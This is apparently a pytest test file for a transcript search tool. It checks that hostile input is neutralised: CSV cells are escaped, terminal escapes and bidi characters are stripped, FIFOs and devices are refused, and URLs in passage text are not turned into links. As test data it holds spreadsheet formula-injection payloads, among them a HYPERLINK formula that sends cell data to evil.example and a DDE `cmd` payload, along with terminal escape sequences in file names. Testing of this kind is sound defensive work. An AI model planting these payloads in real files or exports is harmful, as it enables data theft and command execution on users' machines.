"""Hostile files and what leaves Podium (issue 18): impossible dates, spreadsheet formulas, name clashes,
terminal escapes, FIFOs and devices, text the page would turn into links, huge titles, a --queries file that
is not UTF-8. Each replays the attack on a crafted corpus built beside the two real seeds, and asserts what
must happen instead.
"""

import csv
import datetime as dt
import io
import json
import os
import re
import resource
import subprocess
import sys
import unicodedata
import warnings
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from app_driver import answer, card_blocks, open_app, plain
from corpus_slices import REPO, SEED_FILES, SEEDS
from indexer.cli import main
from indexer.ingest import readers
from indexer.ingest.corpus import read_corpus
from indexer.ingest.dedupe import identity
from indexer.ingest.readers import read_document, read_file
from indexer.controls import json_text, printable
from indexer.search import Index, Result, Results
from indexer.search.export import results_csv, results_json
from indexer.search.results import TITLE_SHOWN
from podium_app.results_page import card_key, months_of
from podium_app.text import WORD_JOINER, escape

pytest_plugins = ["app_fixtures"]

WHITEHOUSE_SEED = SEEDS / "2021-12-30-background-press-call-biden-putin.whitehouse.md"
BAD_DATE_NAME = "2022-13-45-press-gaggle-by-jen-psaki.txt"
ESCAPE_NAME = "2022-03-01-brief\x1b]0;pwned\x07ing\x1b]52;c;aGk=\x07.txt"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
FORMULA_ANSWER = "=cmd|' /C calc'!A0 is what we were told to say about the budget."
ESCAPE_URL = "https://www.whitehouse.gov/briefing-room/x\x1b]52;c;aGk=\x07"
LINKS = "www.evil.example", "https://evil.example/steal?x=1", "user@evil.example"
LINK_ANSWER = f"People can read more at {LINKS[0]}, at {LINKS[1]} or write to {LINKS[2]} about the plan."
LONG_TITLE = "Remarks on the plan " + "and the plan " * 8000  # 104 kB
FIRST_ANSWER = "We are working on gas prices with every tool we have, and we will keep at it for families."
# The page's markdown (remark-gfm) links what these match, escaped or not (its own regexes, in Python).
AUTOLINK = re.compile(r"(?i)(?:https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+")


def transcript(title: str, date: str, answer: str, source_url: str | None = None) -> str:
    meta = {"title": title, "date": date} | ({"source_url": source_url} if source_url else {})
    return (f"---\n{yaml.safe_dump(meta, allow_unicode=True)}---\n\nMS. PSAKI:  Good afternoon.\n\n"
            f"Q    What can you tell us about the plan?\n\nMS. PSAKI:  {answer}\n")


def plain_text(answer: str) -> str:
    return f"MS. PSAKI:  {FIRST_ANSWER}\n\nQ  What about the plan?\n\nMS. PSAKI:  {answer}\n"


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> dict:
    """The seeds and a folder of crafted files, built through the CLI: the folder, the index, the build's output."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "corpus"
    folder.mkdir()
    (folder / BAD_DATE_NAME).write_text(plain_text("The gaggle will be short today, we travel at noon."))
    (folder / ESCAPE_NAME).write_text(plain_text("The plan is to meet the governors on Friday afternoon."))
    (folder / "2022-03-02-formulas.md").write_text(transcript(FORMULA_TITLE, "2022-03-02", FORMULA_ANSWER,
                                                              ESCAPE_URL))
    (folder / "2022-03-03-links.md").write_text(transcript("Press Gaggle on the Plan", "2022-03-03", LINK_ANSWER))
    (folder / "2022-03-04-long-title.md").write_text(transcript(LONG_TITLE, "2022-03-04",
                                                                "The long title is a test of the card's height."))
    (folder / "\x1b]0;x\x07-empty.md").write_text("")
    built = run("build", *SEED_FILES, folder, "--index", root / "index")
    assert built.exit_code == 0, built.output
    return {"folder": folder, "index": root / "index", "built": built}


@pytest.fixture
def hostile_app(hostile, monkeypatch):
    monkeypatch.setenv("PODIUM_INDEX", str(hostile["index"]))


def items(block) -> list:
    return list(block.children.values())


def page_links(at) -> list[str]:
    """What the page's markdown would link in the cards' text: the source links the page builds left out."""
    texts = [re.sub(r"\]\(https?://[^)\s]*\)$", "]", item.value) for block in card_blocks(at)
             for item in items(block) if item.type in ("markdown", "caption")]
    return [link for text in texts for link in AUTOLINK.findall(plain(text))]


def search_json(index_dir: Path, question: str, *args) -> list[dict]:
    found = run("search", question, "--index", index_dir, "--json", *args)
    assert found.exit_code == 0, found.output
    return json.loads(found.stdout)["results"]


# 1. Dates


def test_an_impossible_date_in_a_file_name_fails_that_file_and_stats_and_since_stay_whole(hostile):
    stats = run("stats", "--index", hostile["index"])
    since = search_json(hostile["index"], "gas prices", "--since", "2022-12")

    assert (f"  {hostile['folder'] / BAD_DATE_NAME}: the date in the file name, 2022-13-45, is not a real date "
            "from 1789-01-01 to tomorrow: rename the file with the transcript's date, YYYY-MM-DD") in hostile["built"].stdout.splitlines()
    assert "dates       2021-12-30 .. 2022-03-04\n" in stats.stdout
    assert since == []


def test_the_app_loads_over_an_index_with_a_bad_file(hostile_app):
    at = open_app(q="gas prices")

    assert not at.exception and not at.error and card_blocks(at)
    assert (at.date_input(key="since").value, at.date_input(key="until").value) == (
        dt.date(2021, 12, 30), dt.date(2022, 3, 4))


def test_an_index_an_older_reader_wrote_with_an_impossible_date_still_serves(tmp_path, monkeypatch):
    """Before the fix, the reader stored 2022-13-45: `stats` and every page load broke on it."""
    (tmp_path / BAD_DATE_NAME).write_text(plain_text("Gas prices are the first thing families tell us about."))
    with monkeypatch.context() as old_reader:
        old_reader.setattr(readers, "real_date", lambda text: text)
        assert run("build", WHITEHOUSE_SEED, tmp_path / BAD_DATE_NAME, "--index", tmp_path / "index").exit_code == 0
    monkeypatch.setenv("PODIUM_INDEX", str(tmp_path / "index"))

    stats = run("stats", "--index", tmp_path / "index")
    searched = open_app(q="What do families say about gas prices?")
    transcript = open_app(doc=Path(BAD_DATE_NAME).stem)

    assert "dates       2021-12-30 .. 2021-12-30\n" in stats.stdout
    assert not searched.exception and not searched.error and card_blocks(searched)
    assert (searched.date_input(key="since").value, searched.date_input(key="until").value) == (
        dt.date(2021, 12, 30), dt.date(2021, 12, 30))
    assert not transcript.exception
    assert [c.value for c in transcript.caption if " turns, " in c.value][0].startswith("2022\\-13\\-45 · gaggle · ")


@pytest.mark.parametrize("front_matter, date", [
    ({"date": "2022-13-45", "published_time": "2022-03-01T10:00:00-05:00"}, "2022-03-01"),
    ({"date": "2022-02-30"}, None),
    ({"date": "March 2022"}, None),  # dateutil would fill in today's day of the month
    ({"date": "2022-03-07"}, "2022-03-07"),
    ({"date": "0001-01-01"}, None),
    ({"date": "9999-12-31"}, None),
    ({"date": "9999-12-31T10:00:00+05:00"}, None),
    ({"date": "1789-04-30"}, "1789-04-30"),
    ({"date": "2022-03-07T23:30:00 XYZ"}, "2022-03-07"),  # an unknown zone: no UnknownTimezoneWarning
], ids=["impossible, then published_time", "february 30", "partial", "real", "year 1", "year 9999",
        "year 9999 with a zone", "the first inauguration", "odd zone"])
def test_a_front_matter_date_is_kept_only_when_it_names_a_real_day(tmp_path, front_matter, date):
    path = tmp_path / "briefing.md"
    path.write_text(f"---\ntitle: Press Briefing\n{yaml.safe_dump(front_matter)}---\n\nMS. PSAKI:  Hello.\n")

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert read_document(path).date == date


OUTSIDE = ["0001-01-01", "1788-12-31", "9999-12-31", (dt.date.today() + dt.timedelta(days=2)).isoformat()]


@pytest.mark.parametrize("date", OUTSIDE, ids=["year 1", "before 1789", "year 9999", "after tomorrow"])
def test_a_date_in_a_file_name_outside_1789_to_tomorrow_fails_that_file_naming_the_range(tmp_path, date):
    path = tmp_path / f"{date}-press-gaggle-by-jen-psaki.txt"
    path.write_text(plain_text("Gas prices were lower then, we are told."))

    with pytest.raises(readers.UnreadableFile) as failed:
        read_document(path)

    assert str(failed.value) == (f"the date in the file name, {date}, is not a real date from 1789-01-01 to "
                                 "tomorrow: rename the file with the transcript's date, YYYY-MM-DD")


def test_the_timeline_counts_months_as_numbers_and_leaves_out_a_date_no_reader_keeps_now():
    """An older index may hold 9999-12-31: counted month by month, it was 1.2 million months and an
    IndexError naming them."""
    dated = [result_with(date=day) for day in ("1789-04-30", "1790-02-01", "1790-02-28", "9999-12-31")]

    months = months_of(dated)

    assert (len(months), months[0], months[-1], sum(c for _, c in months)) == (11, ("1789-04", 1), ("1790-02", 2), 3)


# 2. CSV cells


FORMULAS = [FORMULA_TITLE, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "\uff1dcmd|' /C calc'!A0", "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1)", "\ufe621+1", "  =1+1", "\u3000\uff1d1+1"]
TEXT_FIELDS = ("text", "highlight", "speaker", "role", "question", "title", "date", "kind", "source_url", "doc_id",
               "passage_id")


def result_with(**texts) -> Result:
    return Result(rank=1, score=-0.25, **(dict.fromkeys(TEXT_FIELDS, "x") | texts))


@pytest.mark.parametrize("payload", FORMULAS, ids=["hyperlink", "dde", "plus", "minus", "at", "tab", "cr",
                                                   "full-width equals", "full-width plus", "full-width minus",
                                                   "full-width at", "small plus", "after spaces",
                                                   "after an ideographic space"])
def test_no_csv_cell_starts_a_formula(payload):
    texts = dict.fromkeys(TEXT_FIELDS, payload)
    result = result_with(**texts)

    row = next(csv.DictReader(io.StringIO(results_csv([result]))))

    assert {name: row[name] for name in texts} == {name: "'" + payload for name in texts}
    assert (row["rank"], row["score"]) == ("1", "-0.25")  # numbers are numbers, not formulas


def test_every_csv_cell_is_quoted_so_a_semicolon_starts_no_cell():
    """A spreadsheet set to split on `;` read `x; =cmd...` as two cells, the second a formula."""
    exported = results_csv([result_with(text="Gas prices; =cmd|' /C calc'!A0", title="Remarks; @SUM(1)")])

    cells = [re.findall(r'(?:^|,)("(?:[^"]|"")*"|[^,]*)', line) for line in exported.splitlines()]

    assert len(cells) == 2 and all(cell.startswith('"') for line in cells for cell in line)


def test_the_csv_of_a_hostile_transcript_is_inert(hostile):
    exported = run("search", "what were you told to say about the budget", "--index", hostile["index"], "--csv",
                   "-k", "3")
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    row = next(r for r in rows if r["doc_id"] == "2022-03-02-formulas")

    assert (row["title"], row["text"]) == ("'" + FORMULA_TITLE, "'" + FORMULA_ANSWER)
    assert not [cell for r in rows for cell in r.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# 3. The same file name in three folders


def test_identical_copies_are_one_document_and_an_id_clash_fails_only_its_file(tmp_path):
    corpus = tmp_path / "corpus"
    for folder in "abc":
        (corpus / folder).mkdir(parents=True)
        (corpus / folder / "2022-02-03-short.md").write_text(plain_text("Nothing new on the trip today."))
    (corpus / "e").mkdir()
    clashing = corpus / "e" / "2022-02-03-short.md"
    clashing.write_text(plain_text("The trip is on Monday, and the President will meet the governors."))
    (corpus / "d").mkdir()  # read before e, with the id e's copy would be renamed to
    taken = corpus / "d" / f"2022-02-03-short-{identity(read_document(clashing))[:8]}.md"
    taken.write_text(plain_text("A different briefing, which happens to hold that name."))

    built = run("build", corpus, "--index", tmp_path / "index")
    index = Index.open(tmp_path / "index")
    sources = index.db.execute("SELECT sources FROM documents WHERE doc_id = '2022-02-03-short'").fetchone()[0]

    assert built.exit_code == 0, built.output
    assert built.stdout.splitlines()[1] == "documents: 2 added, 0 kept, 0 removed; 2 duplicate files merged"
    assert built.stdout.splitlines()[-1] == (
        f"  {clashing}: its id 2022-02-03-short is taken by another document, and so is {taken.stem}: rename the file")
    assert [source["path"] for source in json.loads(sources)] == [
        str(corpus / folder / "2022-02-03-short.md") for folder in "abc"]
    index.close()


# 4. Terminal escapes


def test_no_escape_sequence_reaches_the_terminal(hostile, tmp_path):
    folder, index_dir = hostile["folder"], hostile["index"]
    outputs = {
        "build": hostile["built"].output,
        "inspect": run("inspect", folder).output,
        "search": run("search", "the plan with the governors on Friday", "--index", index_dir).output,
        "search the url": run("search", "what were you told to say about the budget", "--index", index_dir).output,
        "stats": run("stats", "--index", index_dir).output,
        "error": run("build", folder / "\x1b]0;x\x07-empty.md", "--index", tmp_path / "index").output,
    }
    found = search_json(index_dir, "the plan with the governors on Friday")
    formulas = search_json(index_dir, "what were you told to say about the budget")

    assert {name: re.findall(r"[\x1b\x07]", text) for name, text in outputs.items()} == dict.fromkeys(outputs, [])
    assert "\\x1b]0;x\\x07-empty.md: empty file" in outputs["inspect"]  # shown escaped, not dropped
    assert " - Brief ]0;pwned ing ]52;c;aGk=\n" in outputs["search"]
    assert found[0]["title"] == "Brief ]0;pwned ing ]52;c;aGk="  # stored without its control characters
    assert found[0]["doc_id"] == "2022-03-01-brief-]0;pwned-ing-]52;c;aGk=-"
    assert next(r for r in formulas if r["doc_id"] == "2022-03-02-formulas")["source_url"] is None


NAMES = {
    "a tab": ("2022-03-05-tab\tname-gaggle.txt", "2022-03-05-tab-name-gaggle"),
    "a newline": ("2022-03-05-new\nline-gaggle.txt", "2022-03-05-new-line-gaggle"),
    "a carriage return": ("2022-03-05-cr\rgaggle.txt", "2022-03-05-cr-gaggle"),
    "a line separator": ("2022-03-05-ls\u2028gaggle.txt", "2022-03-05-ls-gaggle"),
    "NEL": ("2022-03-05-nel\x85gaggle.txt", "2022-03-05-nel-gaggle"),
    "a space": ("2022-03-05-press gaggle.txt", "2022-03-05-press-gaggle"),
    "CSI and a bidi override": ("2022-03-06-c1\x9b31mred\u202egnp-gaggle.txt", "2022-03-06-c1-31mred-gnp-gaggle"),
    "a right-to-left mark": ("2022-03-06-rlm\u200fgaggle.txt", "2022-03-06-rlm-gaggle"),
    "decomposed": ("2022-03-09-cafe\u0301-gaggle.txt", "2022-03-09-caf\u00e9-gaggle"),
}


@pytest.mark.parametrize("name", NAMES)
def test_an_id_and_a_title_taken_from_a_file_name_are_one_line_of_composed_text(tmp_path, name):
    file_name, doc_id = NAMES[name]
    (tmp_path / file_name).write_text(plain_text("Gas prices and an odd file name."))

    doc = read_document(tmp_path / file_name)

    assert doc.doc_id == doc_id
    assert re.fullmatch(r"[^\s\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e]+( [^\s\x00-\x1f\x7f-\x9f]+)*", doc.title)
    assert unicodedata.is_normalized("NFC", doc.title) and unicodedata.is_normalized("NFC", doc.doc_id)


UNSEEN = ["\x9b", "\x85", "\x7f", "\u202e", "\u202a", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]
SHOWN_RAW = UNSEEN + ["\u2028", "\u2029"]  # json_text also escapes what ends a line in JavaScript


@pytest.mark.parametrize("char", SHOWN_RAW, ids=[f"U+{ord(c):04X}" for c in SHOWN_RAW])
def test_json_output_escapes_every_control_and_bidi_character(char):
    text = f"Remarks {char}[31m on gas prices"

    exported = results_json("gas" + char, Results([result_with(title=text, text=text)], False))

    assert char not in exported and f"\\u{ord(char):04x}" in exported
    assert json.loads(exported)["results"][0]["title"] == text and json.loads(json_text(text)) == text


@pytest.mark.parametrize("char", UNSEEN, ids=[f"U+{ord(c):04X}" for c in UNSEEN])
def test_no_c1_or_bidi_character_reaches_the_terminal_or_json_raw(tmp_path, char):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / f"2022-03-06-{char}x-empty.md").write_text("")

    readable, as_json = run("inspect", folder).output, run("inspect", folder, "--json").stdout

    assert char not in readable and char not in as_json and printable(char) in readable
    assert json.loads(as_json)["failed"][0]["path"] == str(folder / f"2022-03-06-{char}x-empty.md")


@pytest.mark.parametrize("text", ["a\rb", "a\r\nb", "a\nb", "a\u2028b", "a\x0bb", "a\x0cb", "a\x85b"],
                         ids=["cr", "crlf", "lf", "line separator", "vt", "ff", "nel"])
def test_the_page_shows_a_text_with_line_breaks_on_one_line(text):
    assert escape(text) == "a b"


@pytest.mark.parametrize("first, second", [("2022-03-08-Case-Gaggle", "2022-03-08-case-gaggle"),
                                           ("2022-03-08-a.b", "2022-03-08-a-b"), ("caf\u00e9", "cafe\u0301")],
                         ids=["case", "punctuation", "composed or not"])
def test_two_ids_the_readable_key_would_merge_get_two_card_keys(first, second):
    assert card_key(first) != card_key(second)
    assert card_key(first) == card_key(first) and re.fullmatch(r"card-[a-z0-9-]+", card_key(first))


# 7. FIFOs, devices and files that never end


@pytest.mark.timeout(60)
def test_a_fifo_fails_with_its_reason_and_never_hangs(tmp_path):
    folder = tmp_path / "corpus"
    folder.mkdir()
    os.mkfifo(folder / "2022-03-01-pipe.md")
    (folder / WHITEHOUSE_SEED.name).write_bytes(WHITEHOUSE_SEED.read_bytes())

    corpus = read_corpus([folder], progress=False)
    alone = run("build", folder / "2022-03-01-pipe.md", "--index", tmp_path / "index")

    reason = "not a regular file but a named pipe (FIFO): give transcript files, or folders of them"
    assert [(Path(f.path).name, f.error) for f in corpus.failed] == [("2022-03-01-pipe.md", reason)]
    assert len(corpus.documents) == 1
    assert alone.exit_code == 2 and alone.stderr.splitlines()[-1].startswith("error: "), alone.output
    assert f"{folder / '2022-03-01-pipe.md'}: {reason}" in alone.stderr.splitlines()[-1]
    assert not (tmp_path / "index").exists()


READ_DEVICE = "from indexer.ingest.corpus import read_corpus; print(read_corpus(['/dev/zero'], progress=False).failed)"


def test_a_device_is_refused_without_reading_it():
    """First in a child held to 1 GB of address space (reading /dev/zero once grew 0.5 GB/s), then `inspect`."""
    child = subprocess.run([sys.executable, "-c", READ_DEVICE], cwd=REPO, capture_output=True, text=True, timeout=120,
                           preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30)))
    reason = "not a regular file but a character device: give transcript files, or folders of them"
    assert child.stdout == f"[Failure(path='/dev/zero', error='{reason}')]\n", child.stderr[-500:]

    inspected = run("inspect", "/dev/zero")

    assert f"  /dev/zero: {reason}" in inspected.stdout.splitlines()


def test_a_file_longer_than_its_size_says_is_read_only_to_the_limit(monkeypatch):
    """/proc files say they are empty; the read stops one byte past the limit, whatever the size said."""
    monkeypatch.setattr(readers, "MAX_FILE_BYTES", 1000)

    with pytest.raises(readers.UnreadableFile, match=r"^too large for a transcript \(more than the limit of "):
        read_file(Path("/proc/self/maps"))


# 9. Links in passage text


def test_no_text_from_the_corpus_becomes_a_link_on_the_page(hostile_app):
    at = open_app(q="Where can people read more about the plan?")
    linked = next(answer(b) for b in card_blocks(at) if "evil" in answer(b))

    assert not at.exception and len(card_blocks(at)) > 1
    assert page_links(at) == []
    assert plain(linked).replace(WORD_JOINER, "").replace("**", "") == LINK_ANSWER  # nothing lost but the links
    assert AUTOLINK.findall(LINK_ANSWER) == ["www.evil.example", "https://evil.example", "user@evil.example"]


# 10. A --queries file that is not UTF-8; a 100 kB title


def test_a_queries_file_that_is_not_utf8_is_one_error_line(hostile, tmp_path):
    questions = tmp_path / "questions.txt"
    questions.write_bytes("gas prices\nthe plan\nMarch 2022 caf\xe9\n".encode("latin-1"))

    result = run("search", "--queries", questions, "--index", hostile["index"])

    assert result.exit_code == 2
    assert len(result.stdout.splitlines()) == 2  # the two good lines were answered
    assert result.stderr == (f"error: line 3 of {questions} is not UTF-8 text (bad byte at offset 14); convert the "
                             "file to UTF-8, e.g. with iconv -f latin1 -t utf-8\n")


def test_a_huge_title_is_cut_where_it_is_shown_and_kept_whole_in_json(hostile, hostile_app):
    question = "the long title is a test of the card's height"
    readable = run("search", question, "--index", hostile["index"], "-k", "1").stdout.splitlines()[0]
    whole = search_json(hostile["index"], question, "-k", "1")[0]["title"]
    at = open_app(q=question)
    title_line = plain(items(card_blocks(at)[0])[1].value)

    assert whole == LONG_TITLE.strip()
    assert readable.endswith(" - " + LONG_TITLE[:TITLE_SHOWN - 1].rstrip() + "\u2026")
    assert title_line.startswith(LONG_TITLE[:TITLE_SHOWN - 1].rstrip() + "\u2026")
    assert len(title_line) < TITLE_SHOWN + 50
